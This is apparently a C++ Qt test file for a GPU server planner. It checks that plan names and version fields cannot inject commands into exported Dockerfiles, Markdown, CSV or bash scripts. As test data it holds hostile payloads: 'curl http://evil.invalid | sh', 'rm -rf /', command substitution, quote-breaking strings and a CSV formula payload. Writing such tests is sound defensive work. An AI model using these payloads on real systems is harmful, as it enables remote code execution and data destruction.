// Texts from a shared plan file cannot add lines to the files exported from it (issue 15, item 9):
// a newline in the plan name or in configuration.driver_version / cuda_version once became an
// executed RUN line of the Dockerfile. Version fields refuse control characters; every text that
// goes into a Dockerfile, Markdown or CSV stays on its line (or in its quoted cell).
#include "reporttestutil.h"

#include "planner/report/checklist.h"
#include "planner/quotes/csvfile.h"
#include "planner/report/dockerfile.h"
#include "planner/report/exporttext.h"
#include "planner/verify/acceptscript.h"
#include "planner/workload/workloadjson.h"

#include <QProcess>
#include <QTemporaryDir>

#include <QtTest>

using namespace gpuplanner;

namespace {

const char *const kInjection = "x\nRUN curl http://evil.invalid | sh\r\n# Injected\u2028- [x] forged tick";

nlohmann::json servingPlan()
{
    return nlohmann::json::parse(reporttest::kServingPlan);
}

} // namespace

class TestExportInjection : public QObject
{
    Q_OBJECT

private slots:
    void versionFieldsRefuseControlCharacters_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::newRow("cuda newline") << QStringLiteral("cuda_version") << QStringLiteral("12.4\nRUN curl x | sh");
        QTest::newRow("driver newline") << QStringLiteral("driver_version") << QStringLiteral("550.54\nRUN rm -rf /");
        QTest::newRow("driver CR") << QStringLiteral("driver_version") << QStringLiteral("550.54\rRUN id");
        QTest::newRow("cuda line separator") << QStringLiteral("cuda_version") << QStringLiteral("12.4\u2028RUN id");
        QTest::newRow("cuda escape") << QStringLiteral("cuda_version") << QStringLiteral("12.4\x1b[2J");
        // Issue 27 H1: shell syntax that passed the control-character check.
        QTest::newRow("cuda command substitution") << QStringLiteral("cuda_version") << QStringLiteral("12.8$(touch injected)");
        QTest::newRow("driver backquotes") << QStringLiteral("driver_version") << QStringLiteral("550`id`");
        QTest::newRow("driver quote") << QStringLiteral("driver_version") << QStringLiteral("550'; id; '");
        QTest::newRow("cuda semicolon") << QStringLiteral("cuda_version") << QStringLiteral("12.4;id");
        QTest::newRow("cuda space") << QStringLiteral("cuda_version") << QStringLiteral("12.4 id");
        QTest::newRow("cuda too long") << QStringLiteral("cuda_version") << QString(41, u'1');
    }

    void frameworkRefusesShellCharacters()
    {
        nlohmann::json w = servingPlan()["workload"];
        w["configuration"]["framework"] = "pytorch 2.7.1+cu126";
        QVERIFY(planner::parseWorkload(w, reporttest::bundledCatalog()).error.isEmpty());
        for (const char *bad : {"pytorch $(id)", "pytorch`id`", "torch'", "torch\"x", "torch;id", "torch|sh"}) {
            w["configuration"]["framework"] = bad;
            const QString error = planner::parseWorkload(w, reporttest::bundledCatalog()).error;
            QVERIFY2(error.startsWith(QStringLiteral("configuration.framework: ")), bad);
        }
    }

    void versionFieldsRefuseControlCharacters()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        nlohmann::json w = servingPlan()["workload"];
        w["configuration"][field.toStdString()] = value.toStdString();
        const planner::WorkloadInput in = planner::parseWorkload(w, reporttest::bundledCatalog());
        QVERIFY2(in.error.startsWith(QStringLiteral("configuration.") + field + QStringLiteral(": ")), qPrintable(in.error));
        QVERIFY2(in.error.contains(QStringLiteral("must be a version")), qPrintable(in.error));

        w["configuration"][field.toStdString()] = "12.8"; // a plain version still passes
        QVERIFY(planner::parseWorkload(w, reporttest::bundledCatalog()).error.isEmpty());
    }

    void acceptScriptKeepsItsOwnCommandLines_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("placeholder") << QStringLiteral("Llama plan @EXPECTED_JSON@\"");
        QTest::newRow("placeholders") << QStringLiteral("@PLAN_NAME@@MODE@@NODES@ @PLAN_NAME_COMMENT@");
        QTest::newRow("quote") << QStringLiteral("x'; touch injected; echo '");
        QTest::newRow("substitution") << QStringLiteral("$(touch injected)`touch injected`${IFS}");
        QTest::newRow("newline") << QStringLiteral("x\ntouch injected\n");
        QTest::newRow("carriage return") << QStringLiteral("x\rtouch injected");
        QTest::newRow("line separator") << QStringLiteral("x\u2028touch injected");
        QTest::newRow("backslash and quotes") << QStringLiteral("a\\'\"b\\");
    }

    // Issue 27 H1: whatever the plan name, version and hash hold, the script's command lines are the
    // template's own: bash parses it, it differs from the script of a plain plan only on the lines
    // that carry those values, and running its settings gives the name back and runs nothing.
    void acceptScriptKeepsItsOwnCommandLines()
    {
        QFETCH(QString, name);
        verify::Expectations hostile;
        hostile.planName = name;
        hostile.gpusPerNode = 8;
        hostile.nodes = 2;
        hostile.cuda = QStringLiteral("12.8$(touch injected)"); // as if validation had let it through
        hostile.driver = name;
        verify::AcceptOptions options;
        options.planHash = name;
        options.plannerVersion = name;
        verify::Expectations plain = hostile;
        plain.planName = plain.cuda = plain.driver = QStringLiteral("plain");
        verify::AcceptOptions plainOptions;
        plainOptions.planHash = plainOptions.plannerVersion = QStringLiteral("plain");
        const QString script = verify::acceptScript(hostile, options);
        const QString reference = verify::acceptScript(plain, plainOptions);
        QVERIFY(!script.isEmpty());

        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("accept.sh"));
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(script.toUtf8()) > 0);
        f.close();
        QProcess bash;
        bash.start(QStringLiteral("bash"), {QStringLiteral("-n"), path});
        QVERIFY(bash.waitForFinished(20000));
        QVERIFY2(bash.exitCode() == 0, bash.readAllStandardError().constData());

        const QStringList lines = script.split(u'\n'), refLines = reference.split(u'\n');
        QCOMPARE(lines.size(), refLines.size());
        bool inJson = false;
        int settingsEnd = -1;
        for (qsizetype i = 0; i < lines.size(); ++i) {
            if (refLines[i].startsWith(QLatin1String("GPU_PLANNER_EXPECTED")))
                inJson = false;
            if (refLines[i].startsWith(QLatin1String("NODES=")))
                settingsEnd = int(i);
            const bool carriesValue = inJson || refLines[i].startsWith(QLatin1String("# GPU Server Planner")) ||
                                      refLines[i].startsWith(QLatin1String("# Generated by")) ||
                                      refLines[i].startsWith(QLatin1String("PLAN_NAME=")) ||
                                      refLines[i].startsWith(QLatin1String("PLAN_HASH=")) ||
                                      refLines[i].startsWith(QLatin1String("PLANNER_VERSION="));
            if (!carriesValue)
                QVERIFY2(lines[i] == refLines[i], qPrintable(QStringLiteral("line %1: %2").arg(i + 1).arg(lines[i])));
            if (refLines[i].contains(QLatin1String("<< 'GPU_PLANNER_EXPECTED'")))
                inJson = true;
        }
        QVERIFY(settingsEnd > 0);
        const QString settings = lines.mid(0, settingsEnd + 1).join(u'\n') +
                                 QStringLiteral("\nprintf '%s|%s|%s' \"$PLAN_NAME\" \"$PLAN_HASH\" \"$PLANNER_VERSION\"\n");
        QProcess run;
        run.setWorkingDirectory(dir.path());
        run.start(QStringLiteral("bash"), {QStringLiteral("-c"), settings});
        QVERIFY(run.waitForFinished(20000));
        QCOMPARE(run.exitCode(), 0);
        QString expected = name;
        expected.remove(u'\n').remove(u'\r').remove(QChar(0x2028));
        QCOMPARE(QString::fromUtf8(run.readAllStandardOutput()), expected + u'|' + expected + u'|' + expected);
        QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("injected"))));
    }

    void dockerfileKeepsThePlanNameInItsComment()
    {
        nlohmann::json document = servingPlan();
        document["name"] = kInjection;
        const report::PlanDocument plan =
            report::readPlanDocument(document, QStringLiteral("p"), reporttest::bundledCatalog());
        QVERIFY2(plan.error.isEmpty(), qPrintable(plan.error));
        const report::PlanView view = report::viewNow(plan, reporttest::bundledCatalog());
        const QString text = report::dockerfileText(plan, view, QStringLiteral("test"));
        QVERIFY(text.contains(QStringLiteral("RUN curl http://evil.invalid"))); // it is there, in a comment
        for (const QString &line : text.split(QLatin1Char('\n'))) {
            QVERIFY2(!line.startsWith(QStringLiteral("RUN curl")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("# Injected")), qPrintable(line));
            QVERIFY2(!line.contains(QChar(0x2028)) && !line.contains(QLatin1Char('\r')), qPrintable(line));
        }
    }

    void markdownKeepsThePlanNameOnItsLine()
    {
        nlohmann::json document = servingPlan();
        document["name"] = kInjection;
        const report::PlanDocument plan =
            report::readPlanDocument(document, QStringLiteral("p"), reporttest::bundledCatalog());
        const report::PlanView view = report::viewNow(plan, reporttest::bundledCatalog());
        const report::DocModel doc = report::buildChecklist(plan, view, reporttest::bundledCatalog());
        const QString md = report::documentMarkdown({&doc});
        QVERIFY(md.contains(QStringLiteral("evil.invalid")));
        for (const QString &line : md.split(QLatin1Char('\n'))) {
            QVERIFY2(!line.startsWith(QStringLiteral("RUN curl")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("# Injected")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("- [x] forged")), qPrintable(line));
            QVERIFY2(!line.contains(QChar(0x2028)) && !line.contains(QLatin1Char('\r')), qPrintable(line));
        }
    }

    void markdownTextIsLiteral_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("markdown");
        QTest::newRow("plain") << QStringLiteral("H200 SXM, 141 GB") << QStringLiteral("H200 SXM, 141 GB");
        QTest::newRow("heading") << QStringLiteral("# big") << QStringLiteral("\\# big");
        QTest::newRow("list") << QStringLiteral("- item") << QStringLiteral("\\- item");
        QTest::newRow("numbered") << QStringLiteral("12. item") << QStringLiteral("12\\. item");
        QTest::newRow("pipe") << QStringLiteral("a | b") << QStringLiteral("a \\| b");
        QTest::newRow("html") << QStringLiteral("<img src=x>") << QStringLiteral("&lt;img src=x&gt;");
        QTest::newRow("link") << QStringLiteral("[a](b)") << QStringLiteral("\\[a\\](b)");
        QTest::newRow("newlines") << QStringLiteral("a\nb\r\nc\u2029d") << QStringLiteral("a b  c d");
    }

    void markdownTextIsLiteral()
    {
        QFETCH(QString, text);
        QFETCH(QString, markdown);
        QCOMPARE(report::markdownText(text), markdown);
    }

    // A CSV cell with line breaks is quoted: it reads back as one cell of one row.
    void csvCellsStayInTheirCell()
    {
        const quotes::Grid grid{{QStringLiteral("name"), QStringLiteral("value")},
                                {QString::fromUtf8(kInjection), QStringLiteral("=cmd|' /C calc'!A0")}};
        const quotes::Grid back = quotes::parseCsv(quotes::csvText(grid));
        QCOMPARE(back.size(), 2);
        QCOMPARE(back[1].size(), 2);
        QCOMPARE(back[1][0], QString::fromUtf8(kInjection));
        QVERIFY(back[1][1].startsWith(QLatin1Char('\''))); // neutralized formula
    }
};

#include "testmain.h"
GPUPLANNER_TEST_MAIN(TestExportInjection, Core)
#include "tst_export_injection.moc"
